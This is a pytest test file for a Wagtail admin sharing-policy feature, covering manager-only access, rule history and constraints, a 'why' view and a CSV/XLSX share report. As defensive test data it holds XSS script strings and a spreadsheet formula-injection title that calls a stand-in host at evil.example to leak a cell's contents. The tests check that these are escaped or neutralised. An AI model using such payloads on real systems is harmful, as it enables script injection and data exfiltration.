"""The sharing policy in the Wagtail admin, for Community managers (sharing.admin_*).

Rules are snippets under the admin's "Sharing" menu, with Wagtail's audit
log; the database's constraints answer as form errors. The "why" view shows
each network's decision for one page the user may see (any other id is
missing); Reports › Shares lists the share log by week, network and item,
and downloads it with formulas neutralised. Nobody but managers (and
superusers) reaches any of it.
"""

import csv
import io
from datetime import date, timedelta

from django.urls import reverse

from wagtail.models import ModelLogEntry, Site

import pytest
from bs4 import BeautifulSoup

from core.models import Audience
from sharing.admin_views import NO_LONGER_PUBLIC, NOT_SEEN
from sharing.admin_viewsets import RACE_MESSAGE
from sharing.models import ShareCount, SharingRule, SharingSettings
from sharing.networks import NETWORKS
from tests.factories import BlogPageFactory, ExpertArticlePageFactory
from tests.factories.communities import CommunityPageFactory
from tests.xss import PAYLOADS, assert_harmless

pytestmark = pytest.mark.django_db

RULES = "sharing_rules:list"
ADD = "sharing_rules:add"
WHY_INDEX = "kindred_sharing:why_index"
SHARES = "kindred_sharing:shares"
NOTE_MAX_LENGTH = SharingRule._meta.get_field("note").max_length


@pytest.fixture
def carers(community_index):
    return CommunityPageFactory(parent=community_index, title="Carers and family")


@pytest.fixture
def article(expert_index, expert):
    """Live, for everyone, its author consents: shared everywhere under the default."""
    return ExpertArticlePageFactory(
        parent=expert_index, author=expert, title="Fatigue: what helps", may_be_shared=True
    )


@pytest.fixture
def draft(blog_index):
    return BlogPageFactory(parent=blog_index, publish=False, title="qzdraftvx my diagnosis")


def rule_data(**fields):
    """The rule form as the admin posts it: unchecked boxes are simply absent."""
    data = {"content_type": "", "community": "", "network": "", "note": ""}
    checked = {"allowed": True, "needs_author_consent": False}
    for name, value in fields.items():
        if name in checked:
            checked[name] = value
        else:
            data[name] = "" if value is None else value
    data.update({name: "on" for name, value in checked.items() if value})
    return data


def why_url(page_id):
    return reverse("kindred_sharing:why", args=(page_id,))


def text_of(response):
    return " ".join(BeautifulSoup(response.content, "html.parser").get_text(" ").split())


def refused(response):
    """Wagtail's refusal: sent to the admin's home (staff) or the sign-in (everyone else)."""
    if response.status_code == 403:
        return True
    return response.status_code == 302 and not response.url.startswith(
        ("/admin/sharing/", "/admin/snippets/")
    )


# --- Who reaches what -------------------------------------------------------------------


def _addresses(article):
    return [
        reverse(RULES),
        reverse(ADD),
        reverse(WHY_INDEX),
        why_url(article.pk),
        reverse(SHARES),
        reverse(SHARES) + "?export=csv",
        reverse("wagtailsettings:edit", args=("sharing", "sharingsettings")),
    ]


def test_community_managers_reach_every_sharing_page(client, manager, article):
    client.force_login(manager)

    for url in _addresses(article):
        response = client.get(url, follow=url.endswith("sharingsettings/"))
        assert response.status_code == 200, url


@pytest.mark.parametrize("role", ["editor", "medic", "expert", "member", "anonymous"])
def test_everyone_else_is_refused(request, client, article, role):
    rule = SharingRule.objects.create(network="x", allowed=False, note="qzsecretnotevx")
    if role != "anonymous":
        client.force_login(request.getfixturevalue(role))

    urls = [
        *_addresses(article),
        reverse("sharing_rules:edit", args=(rule.pk,)),
        reverse("sharing_rules:delete", args=(rule.pk,)),
        reverse("sharing_rules:history", args=(rule.pk,)),
        reverse("sharing_rules:copy", args=(rule.pk,)),
    ]
    for url in urls:
        response = client.get(url)
        assert refused(response), (url, response.status_code)
        assert "qzsecretnotevx" not in response.content.decode()
    # Nor can they change anything by posting.
    response = client.post(reverse(ADD), rule_data(network="facebook", allowed=False))
    assert refused(response)
    response = client.post(reverse("sharing_rules:delete", args=(rule.pk,)))
    assert refused(response)
    assert list(SharingRule.objects.values_list("network", flat=True)) == ["x"]


def test_the_sharing_menu_and_report_show_to_managers_only(client, manager, editor):
    client.force_login(manager)
    home = client.get(reverse("wagtailadmin_home")).content.decode()
    for url in (
        reverse(RULES),
        reverse(WHY_INDEX),
        reverse("wagtailsettings:edit", args=("sharing", "sharingsettings")),
        reverse(SHARES),
    ):
        assert url in home, url

    client.force_login(editor)
    home = client.get(reverse("wagtailadmin_home")).content.decode()
    assert "/admin/sharing/" not in home


def test_rules_are_not_under_snippets_which_managers_still_do_not_get(client, manager):
    client.force_login(manager)

    assert refused(client.get(reverse("wagtailsnippets:index")))


# --- Rules: history and the constraints -------------------------------------------------


def test_creating_editing_and_deleting_a_rule_is_in_its_history(client, manager, carers):
    client.force_login(manager)

    created = client.post(
        reverse(ADD),
        rule_data(
            content_type="experience_stories.experiencestorypage",
            community=carers.pk,
            network="x",
            allowed=False,
            note="Carers asked us to keep stories off X.",
        ),
    )
    assert created.status_code == 302
    rule = SharingRule.objects.get()
    assert (rule.content_type, rule.community_id, rule.network, rule.allowed) == (
        "experience_stories.experiencestorypage",
        carers.pk,
        "x",
        False,
    )

    edited = client.post(
        reverse("sharing_rules:edit", args=(rule.pk,)),
        rule_data(
            content_type="experience_stories.experiencestorypage",
            community=carers.pk,
            network="x",
            allowed=True,
            needs_author_consent=True,
            note="Only with the author's consent, after all.",
        ),
    )
    assert edited.status_code == 302
    rule.refresh_from_db()
    assert (rule.allowed, rule.needs_author_consent) == (True, True)

    history = client.get(reverse("sharing_rules:history", args=(rule.pk,)))
    assert history.status_code == 200
    assert "Community manager" in history.content.decode()

    deleted = client.post(reverse("sharing_rules:delete", args=(rule.pk,)))
    assert deleted.status_code == 302
    assert not SharingRule.objects.exists()

    entries = ModelLogEntry.objects.filter(
        content_type__app_label="sharing", content_type__model="sharingrule", object_id=rule.pk
    ).order_by("timestamp", "pk")
    assert [(entry.action, entry.user_id) for entry in entries] == [
        ("wagtail.create", manager.pk),
        ("wagtail.edit", manager.pk),
        ("wagtail.delete", manager.pk),
    ]
    assert all(entry.timestamp for entry in entries)


def test_a_copied_rule_must_change_its_scope(client, manager):
    rule = SharingRule.objects.create(network="x", allowed=False, note="Not on X")
    client.force_login(manager)
    url = reverse("sharing_rules:copy", args=(rule.pk,))

    assert client.get(url).status_code == 200
    same = client.post(url, rule_data(network="x", allowed=False, note="Not on X"))
    other = client.post(url, rule_data(network="facebook", allowed=False, note="Not on X"))

    assert same.status_code == 200
    assert "A rule for this type and network exists." in text_of(same)
    assert other.status_code == 302
    # A new rule: the copied one is unchanged, and only the new one has a "create" entry.
    assert set(SharingRule.objects.values_list("network", flat=True)) == {"x", "facebook"}
    rule.refresh_from_db()
    assert (rule.network, rule.allowed) == ("x", False)
    copy = SharingRule.objects.get(network="facebook")
    assert list(
        ModelLogEntry.objects.filter(content_type__model="sharingrule").values_list(
            "action", "object_id"
        )
    ) == [("wagtail.create", str(copy.pk))]


def test_changing_the_site_wide_default_is_in_the_audit_log(client, manager):
    site = Site.objects.get(is_default_site=True)
    client.force_login(manager)

    response = client.post(
        reverse("wagtailsettings:edit", args=("sharing", "sharingsettings", site.pk)),
        {"needs_author_consent": "on"},
    )

    assert response.status_code == 302
    settings = SharingSettings.objects.get(site=site)
    assert (settings.allowed_by_default, settings.needs_author_consent) == (False, True)
    entry = ModelLogEntry.objects.get(content_type__model="sharingsettings")
    assert (entry.action, entry.user_id, entry.object_id) == (
        "wagtail.edit",
        manager.pk,
        str(settings.pk),
    )


@pytest.mark.parametrize(
    ("existing", "posted", "message"),
    [
        (
            {"network": "x", "allowed": False},
            rule_data(network="x", allowed=True),
            "A rule for this type and network exists.",
        ),
        (
            {"content_type": "blogs.blogpage", "network": ""},
            rule_data(content_type="blogs.blogpage"),
            "A rule for this type and network exists.",
        ),
        (
            {"content_type": "blogs.blogpage", "network": "x", "with_community": True},
            rule_data(content_type="blogs.blogpage", network="x", with_community=True),
            "A rule for this type, community and network exists.",
        ),
    ],
)
def test_a_duplicate_rule_is_a_form_error(client, manager, carers, existing, posted, message):
    if existing.pop("with_community", False):
        existing["community"] = carers
    if posted.pop("with_community", None):
        posted["community"] = carers.pk
    SharingRule.objects.create(**existing)
    client.force_login(manager)

    response = client.post(reverse(ADD), posted)

    assert response.status_code == 200
    assert message in text_of(response)
    assert SharingRule.objects.count() == 1


def test_a_rule_naming_nothing_is_a_form_error(client, manager):
    client.force_login(manager)

    response = client.post(reverse(ADD), rule_data(allowed=False, note="Everything off"))

    assert response.status_code == 200
    assert "the site-wide default covers everything else" in text_of(response)
    assert not SharingRule.objects.exists()


def test_editing_a_rule_into_another_rules_scope_is_a_form_error(client, manager):
    SharingRule.objects.create(network="x", allowed=False)
    rule = SharingRule.objects.create(network="facebook", allowed=False)
    client.force_login(manager)

    response = client.post(
        reverse("sharing_rules:edit", args=(rule.pk,)), rule_data(network="x", allowed=False)
    )

    assert response.status_code == 200
    assert "A rule for this type and network exists." in text_of(response)
    rule.refresh_from_db()
    assert rule.network == "facebook"


def test_a_rule_saved_twice_at_once_answers_with_the_form(client, manager, monkeypatch):
    """Both saves pass the form's check; the loser's insert meets the database's constraint."""
    SharingRule.objects.create(network="x", allowed=False)
    monkeypatch.setattr(SharingRule, "validate_constraints", lambda self, exclude=None: None)
    client.force_login(manager)

    response = client.post(reverse(ADD), rule_data(network="x", allowed=True))

    assert response.status_code == 200
    assert RACE_MESSAGE in text_of(response)
    assert SharingRule.objects.count() == 1
    assert not ModelLogEntry.objects.filter(content_type__model="sharingrule").exists()


@pytest.mark.parametrize(
    "note",
    ["x" * (NOTE_MAX_LENGTH + 1), "x" * 100_000, "before\x00after"],
    ids=["one-too-long", "huge", "nul"],
)
def test_a_hostile_note_is_a_form_error(client, manager, note):
    client.force_login(manager)

    response = client.post(reverse(ADD), rule_data(network="x", note=note))

    assert response.status_code == 200
    assert not SharingRule.objects.exists()


@pytest.mark.parametrize(
    "field, value",
    [
        ("network", "myspace"),
        ("content_type", "wagtailcore.page"),
        ("content_type", "<script>alert('xss-ct')</script>"),
        ("community", "not-a-number"),
        ("community", "99999999999999999999"),
    ],
)
def test_hostile_choices_are_form_errors(client, manager, field, value):
    client.force_login(manager)

    response = client.post(reverse(ADD), rule_data(**{"network": "x", field: value}))

    assert response.status_code == 200
    assert not SharingRule.objects.exists()
    assert_harmless(response.content.decode(), field)


def test_a_community_rule_names_a_community_page_only(client, manager, blog_index):
    client.force_login(manager)

    response = client.post(reverse(ADD), rule_data(network="x", community=blog_index.pk))

    assert response.status_code == 200
    assert not SharingRule.objects.exists()


def test_the_listing_says_each_rule_in_words_and_escapes_notes(client, manager, community_index):
    hostile = CommunityPageFactory(parent=community_index, title=PAYLOADS[1])
    for n, payload in enumerate(PAYLOADS):
        SharingRule.objects.create(
            network=list(NETWORKS)[n % len(NETWORKS)],
            content_type=["", "blogs.blogpage"][n // len(NETWORKS)],
            community=hostile if n == 0 else None,
            allowed=bool(n % 2),
            note=payload[:NOTE_MAX_LENGTH],
        )
    client.force_login(manager)

    response = client.get(reverse(RULES))

    body = response.content.decode()
    assert response.status_code == 200
    assert_harmless(body, "rules listing")
    assert "&lt;script&gt;alert(&#x27;xss-script&#x27;)&lt;/script&gt;" in body
    text = text_of(response)
    assert "Blog post · any community · Facebook: not allowed" in text
    assert "Allows sharing" in text and "Needs author’s consent" in text


def test_the_listing_costs_the_same_queries_for_many_rules(
    client, manager, community_index, django_assert_max_num_queries
):
    client.force_login(manager)
    url = reverse(RULES)
    community = CommunityPageFactory(parent=community_index, title="Carers")
    SharingRule.objects.create(network="x", community=community, allowed=False)
    client.get(url)
    with django_assert_max_num_queries(40) as few:
        client.get(url)

    for slug in NETWORKS.keys() - {"x"}:
        SharingRule.objects.create(network=slug, community=community, allowed=False)
    with django_assert_max_num_queries(40) as many:
        response = client.get(url)

    assert text_of(response).count("Carers ·") == len(NETWORKS)
    assert len(many) == len(few)


@pytest.mark.parametrize(
    "query",
    [
        "?network=any",
        "?network=x",
        "?network=bogus",
        "?content_type=any",
        "?content_type=blogs.blogpage",
        "?content_type=%00",
        "?community=abc",
        "?community=99999999999999999999",
        "?network=x&network=facebook",
    ],
)
def test_the_listing_filters_and_survives_hostile_filters(client, manager, query):
    SharingRule.objects.create(network="x", allowed=False, note="qzonxvx")
    SharingRule.objects.create(content_type="blogs.blogpage", note="qzblogsvx")
    client.force_login(manager)

    response = client.get(reverse(RULES) + query)

    assert response.status_code == 200
    body = response.content.decode()
    if query == "?network=x":
        assert "qzonxvx" in body and "qzblogsvx" not in body
    if query == "?network=any":
        assert "qzblogsvx" in body and "qzonxvx" not in body
    if query == "?content_type=any":
        assert "qzonxvx" in body and "qzblogsvx" not in body


# --- Why --------------------------------------------------------------------------------


def test_why_shows_every_network_allowed_by_the_default(client, manager, article):
    client.force_login(manager)

    response = client.get(why_url(article.pk))

    assert response.status_code == 200
    text = text_of(response)
    assert "Fatigue: what helps" in text
    assert f"May be shared to {len(NETWORKS)} of {len(NETWORKS)} networks." in text
    for network in NETWORKS.values():
        assert network.label in text
    assert "Allowed by the site-wide default (no rule matches) with the author’s consent." in text
    settings_url = reverse("wagtailsettings:edit", args=("sharing", "sharingsettings"))
    assert settings_url in response.content.decode()


def test_why_names_the_rule_that_refused_and_links_to_it(client, manager, article):
    rule = SharingRule.objects.create(
        content_type="blogs.expertarticlepage", network="x", allowed=False
    )
    SharingRule.objects.create(network="x", allowed=True)
    client.force_login(manager)

    response = client.get(why_url(article.pk))

    soup = BeautifulSoup(response.content, "html.parser")
    row = next(tr for tr in soup.select("tbody tr") if tr.th.get_text(strip=True) == "X")
    assert "Not allowed" in row.get_text()
    assert "Not allowed by the rule “Expert article · any community · X: not allowed”" in (
        row.get_text()
    )
    assert row.select_one("a")["href"] == reverse("sharing_rules:edit", args=(rule.pk,))
    assert f"May be shared to {len(NETWORKS) - 1} of {len(NETWORKS)}" in text_of(response)


def test_why_says_the_floor_decides_for_a_page_that_is_not_public(client, manager, community_index):
    # An unlisted community is the manager's own page, and never shared.
    hidden = CommunityPageFactory(parent=community_index, title="Clinicians", is_listed=False)
    client.force_login(manager)

    response = client.get(why_url(hidden.pk))

    assert response.status_code == 200
    text = text_of(response)
    assert "May not be shared anywhere." in text
    assert text.count("The floor") == len(NETWORKS)
    assert "Never shared: only published items that everyone may read are shared" in text


def test_why_shows_the_live_title_never_a_newer_draft(client, manager, article, expert):
    article.title = "qznewervx renamed"
    article.save_revision(user=expert)
    client.force_login(manager)

    response = client.get(why_url(article.pk))

    assert response.status_code == 200
    assert "Fatigue: what helps" in text_of(response)
    assert "qznewervx" not in response.content.decode()


def test_why_answers_a_page_the_manager_may_not_see_as_a_missing_one(
    client, manager, blog_index, draft, carers
):
    members_only = BlogPageFactory(
        parent=blog_index, title="qzmembersvx", audience=Audience.MEMBERS
    )
    community_item = BlogPageFactory(
        parent=blog_index, title="qzcommunityvx", audience=Audience.COMMUNITY, community=carers
    )
    client.force_login(manager)
    missing = client.get(why_url(10**6))

    assert missing.status_code == 404
    for page in (draft, members_only, community_item):
        response = client.get(why_url(page.pk))
        assert response.status_code == 404
        assert response.content == missing.content
    for url in ("/admin/sharing/why/abc/", "/admin/sharing/why/-1/", why_url(2**63)):
        assert client.get(url).status_code == 404


def test_superusers_see_why_for_any_page(client, superuser, draft):
    client.force_login(superuser)

    response = client.get(why_url(draft.pk))

    assert response.status_code == 200
    assert "qzdraftvx" in text_of(response)


def test_the_why_form_goes_to_the_page_it_names(client, manager, article):
    client.force_login(manager)

    by_id = client.get(reverse(WHY_INDEX), {"page_id": article.pk})
    chosen = client.get(reverse(WHY_INDEX), {"page": article.pk})

    assert by_id.status_code == chosen.status_code == 302
    assert by_id.url == chosen.url == why_url(article.pk)


@pytest.mark.parametrize(
    "query",
    [
        {"page_id": "DRAFT"},
        {"page": "DRAFT"},
        {"page_id": "1000000"},
        {"page": "1000000"},
        {"page": "abc"},
        {"page_id": "abc"},
        {"page": "99999999999999999999"},
        {"page_id": "99999999999999999999"},
        {"page_id": "-3"},
        {"page": "<script>alert('xss-why')</script>"},
        {"page_id": ""},
    ],
)
def test_the_why_form_names_no_page_the_manager_may_not_see(client, manager, draft, query):
    client.force_login(manager)
    query = {name: str(draft.pk) if value == "DRAFT" else value for name, value in query.items()}

    response = client.get(reverse(WHY_INDEX), query)

    assert response.status_code == 200
    body = response.content.decode()
    assert "qzdraftvx" not in body
    assert_harmless(body, str(query))
    if any(query.values()):
        assert NOT_SEEN in text_of(response)


def test_the_page_listing_offers_why_to_managers_only(
    client, manager, editor, superuser, community_index, blog_index
):
    community = CommunityPageFactory(parent=community_index, title="Newly diagnosed")
    post = BlogPageFactory(parent=blog_index, title="A live post")

    client.force_login(manager)
    listing = client.get(reverse("wagtailadmin_explore", args=(community_index.pk,)))
    header = client.get(reverse("wagtailadmin_pages:edit", args=(community.pk,)))
    assert why_url(community.pk) in listing.content.decode()
    assert why_url(community.pk) in header.content.decode()

    client.force_login(editor)
    listing = client.get(reverse("wagtailadmin_explore", args=(blog_index.pk,)))
    assert listing.status_code == 200
    assert "/admin/sharing/why/" not in listing.content.decode()

    client.force_login(superuser)
    listing = client.get(reverse("wagtailadmin_explore", args=(blog_index.pk,)))
    assert why_url(post.pk) in listing.content.decode()
    # A section index is never an item: no button for it.
    listing = client.get(reverse("wagtailadmin_explore", args=(blog_index.get_parent().pk,)))
    assert why_url(blog_index.pk) not in listing.content.decode()


# --- Reports › Shares ---------------------------------------------------------------------


def _monday(day):
    return day - timedelta(days=day.weekday())


THIS_MONDAY = _monday(date(2026, 11, 25))
LAST_MONDAY = THIS_MONDAY - timedelta(days=7)


def _shares(page, network, day, count):
    return ShareCount.objects.create(page=page, network=network, day=day, count=count)


def _csv(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_report_lists_shares_per_week_network_and_item(client, manager, article, blog_index):
    post = BlogPageFactory(parent=blog_index, title="Pacing")
    _shares(article, "x", THIS_MONDAY, 2)
    _shares(article, "x", THIS_MONDAY + timedelta(days=3), 3)
    _shares(article, "x", LAST_MONDAY + timedelta(days=6), 1)
    _shares(post, "email", LAST_MONDAY, 4)
    client.force_login(manager)

    response = client.get(reverse(SHARES))

    assert response.status_code == 200
    rows = [
        [cell.get_text(" ", strip=True) for cell in tr.select("td")]
        for tr in BeautifulSoup(response.content, "html.parser").select("tbody tr")
    ]
    assert rows == [
        ["23 Nov 2026 – 29 Nov 2026", "X", "Fatigue: what helps", "5"],
        ["16 Nov 2026 – 22 Nov 2026", "Email", "Pacing", "4"],
        ["16 Nov 2026 – 22 Nov 2026", "X", "Fatigue: what helps", "1"],
    ]
    assert f'href="{article.url}"' in response.content.decode()


def test_an_item_no_longer_public_keeps_its_count_not_its_title(
    client, manager, article, blog_index, carers
):
    gone = BlogPageFactory(parent=blog_index, title="qzunpublishedvx")
    closed = BlogPageFactory(parent=blog_index, title="qzclosedvx")
    for page in (article, gone, closed):
        _shares(page, "facebook", THIS_MONDAY, 2)
    gone.unpublish()
    closed.audience, closed.community = Audience.COMMUNITY, carers
    closed.save_revision().publish()
    client.force_login(manager)

    page = client.get(reverse(SHARES))
    download = client.get(reverse(SHARES) + "?export=csv")

    csv_text = b"".join(download.streaming_content).decode()
    for body in (page.content.decode(), csv_text):
        assert "qzunpublishedvx" not in body and "qzclosedvx" not in body
        assert body.count(NO_LONGER_PUBLIC) == 2
        assert "Fatigue: what helps" in body


def test_the_download_neutralises_formulas_in_titles(client, manager, blog_index):
    post = BlogPageFactory(parent=blog_index, title='=HYPERLINK("https://evil.example/?"&A1)')
    _shares(post, "linkedin", THIS_MONDAY, 7)
    client.force_login(manager)

    response = client.get(reverse(SHARES) + "?export=csv")

    assert response.status_code == 200
    rows = _csv(response)
    assert rows[0] == ["Week (Monday)", "Network", "Item", "Address", "Shares"]
    assert rows[1][0] == THIS_MONDAY.isoformat()
    assert rows[1][1:3] == ["LinkedIn", '\'=HYPERLINK("https://evil.example/?"&A1)']
    assert rows[1][3].endswith(post.url)
    assert rows[1][4] == "7"
    xlsx = client.get(reverse(SHARES) + "?export=xlsx")
    assert xlsx.status_code == 200
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")


def test_the_report_filters_by_network_and_whole_weeks(client, manager, article):
    _shares(article, "x", THIS_MONDAY + timedelta(days=2), 1)
    _shares(article, "x", LAST_MONDAY + timedelta(days=1), 2)
    _shares(article, "facebook", LAST_MONDAY + timedelta(days=5), 4)
    client.force_login(manager)

    def shares(query):
        response = client.get(reverse(SHARES) + query)
        assert response.status_code == 200
        return [
            tr.select("td")[-1].get_text(strip=True)
            for tr in BeautifulSoup(response.content, "html.parser").select("tbody tr")
        ]

    assert shares("?network=x") == ["1", "2"]
    assert shares("?network=facebook") == ["4"]
    # A day in last week's middle stands for the whole of that week.
    wednesday = (LAST_MONDAY + timedelta(days=2)).isoformat()
    assert shares(f"?weeks_from={wednesday}&weeks_to={wednesday}") == ["4", "2"]
    assert shares(f"?network=x&weeks_from={THIS_MONDAY.isoformat()}") == ["1"]


@pytest.mark.parametrize(
    "query",
    [
        "?network=bogus",
        "?weeks_from=abc",
        "?weeks_from=9999-12-31&weeks_to=9999-12-31",
        "?weeks_from=0001-01-01&weeks_to=0001-01-01",
        "?weeks_to=2026-13-45",
        "?network=%00",
        "?p=999999",
        "?export=pdf",
    ],
)
def test_the_report_survives_hostile_filters(client, manager, article, query):
    _shares(article, "x", THIS_MONDAY, 1)
    client.force_login(manager)

    response = client.get(reverse(SHARES) + query)

    assert response.status_code in (200, 404)


def test_the_report_costs_the_same_queries_for_many_rows(
    client, manager, blog_index, django_assert_max_num_queries
):
    client.force_login(manager)
    url = reverse(SHARES)
    first = BlogPageFactory(parent=blog_index, title="First")
    _shares(first, "x", THIS_MONDAY, 1)
    client.get(url)
    with django_assert_max_num_queries(30) as few:
        client.get(url)

    for n in range(6):
        post = BlogPageFactory(parent=blog_index, title=f"Post {n}")
        for network in ("x", "facebook", "email"):
            _shares(post, network, THIS_MONDAY - timedelta(days=7 * n), n + 1)
    with django_assert_max_num_queries(30) as many:
        response = client.get(url)
    with django_assert_max_num_queries(30) as download:
        client.get(url + "?export=csv")

    assert len(BeautifulSoup(response.content, "html.parser").select("tbody tr")) == 19
    assert len(many) == len(few)
    assert len(download) <= len(many)


def test_nobody_is_in_the_report(client, manager, article, expert):
    _shares(article, "x", THIS_MONDAY, 1)
    client.force_login(manager)

    body = client.get(reverse(SHARES) + "?export=csv")

    text = b"".join(body.streaming_content).decode()
    assert expert.display_name not in text
    assert expert.email not in text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_titles_and_labels_are_text_everywhere(
    client, manager, blog_index, community_index, payload
):
    community = CommunityPageFactory(parent=community_index, title=payload)
    post = BlogPageFactory(parent=blog_index, title=payload, may_be_shared=True)
    SharingRule.objects.create(community=community, network="x", allowed=False, note=payload)
    SharingRule.objects.create(content_type="blogs.blogpage", network="email", allowed=False)
    _shares(post, "x", THIS_MONDAY, 1)
    client.force_login(manager)

    for url in (why_url(post.pk), why_url(community.pk), reverse(SHARES), reverse(RULES)):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_harmless(response.content.decode(), url)
